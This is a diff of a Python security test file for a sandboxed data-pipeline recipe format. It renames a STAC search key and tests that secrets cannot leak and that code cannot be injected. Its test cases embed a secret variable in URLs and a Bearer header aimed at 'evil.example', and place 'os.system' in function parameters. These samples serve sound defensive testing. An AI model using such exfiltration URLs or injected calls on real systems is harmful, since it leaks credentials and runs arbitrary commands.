@@ -86,18 +86,18 @@ ENV_PLACES = {
     "local path": (HEAD + "    source: {items: ['./data/${TP_SANDBOX_SECRET}.tif']}\n", 5, "items[0]"),
     "stac api url": (
         HEAD
-        + "    source:\n      search_stac:\n        source: 'https://evil.example/${TP_SANDBOX_SECRET}'\n",
+        + "    source:\n      search_stac:\n        catalog: 'https://evil.example/${TP_SANDBOX_SECRET}'\n",
         7,
-        "search_stac.source",
+        "search_stac.catalog",
     ),
     "stac query": (
-        HEAD + "    source:\n      search_stac:\n        source: https://a.example\n"
+        HEAD + "    source:\n      search_stac:\n        catalog: https://a.example\n"
         "        query: {note: {eq: '${TP_SANDBOX_SECRET}'}}\n",
         8,
         "query.note.eq",
     ),
     "header sent to a host the recipe chose": (
-        HEAD + "    source:\n      search_stac:\n        source: https://evil.example/stac\n"
+        HEAD + "    source:\n      search_stac:\n        catalog: https://evil.example/stac\n"
         "        headers: {Authorization: 'Bearer ${TP_SANDBOX_SECRET}'}\n",
         8,
         "headers.Authorization",
@@ -497,8 +497,8 @@ def test_every_callable_parameter_of_every_stage_takes_only_allowlisted_function
         ("map: {fn: scale}", "function 'scale' needs 'factor'"),
         ("map: {fn: {scale: [os.system]}}", "arguments of function 'scale' must be a mapping"),
         ("read_raster: {lock: os.system}", "'lock' takes code"),
-        ("search_stac: {source: x, modifier: os.system}", "'modifier' takes code"),
-        ("search_stac: {source: x, request_modifier: os.system}", "'request_modifier' takes code"),
+        ("search_stac: {catalog: x, modifier: os.system}", "'modifier' takes code"),
+        ("search_stac: {catalog: x, request_modifier: os.system}", "'request_modifier' takes code"),
         ("cache: {store: c.zarr, key: os.system}", "'os.system' is not a recipe function"),
         ("routed_decode: {args: [os.system]}", "'os.system' is not a recipe function"),
         ("sample_windows: {size: 4, weights: [os.system]}", "weights must name a recipe function"),
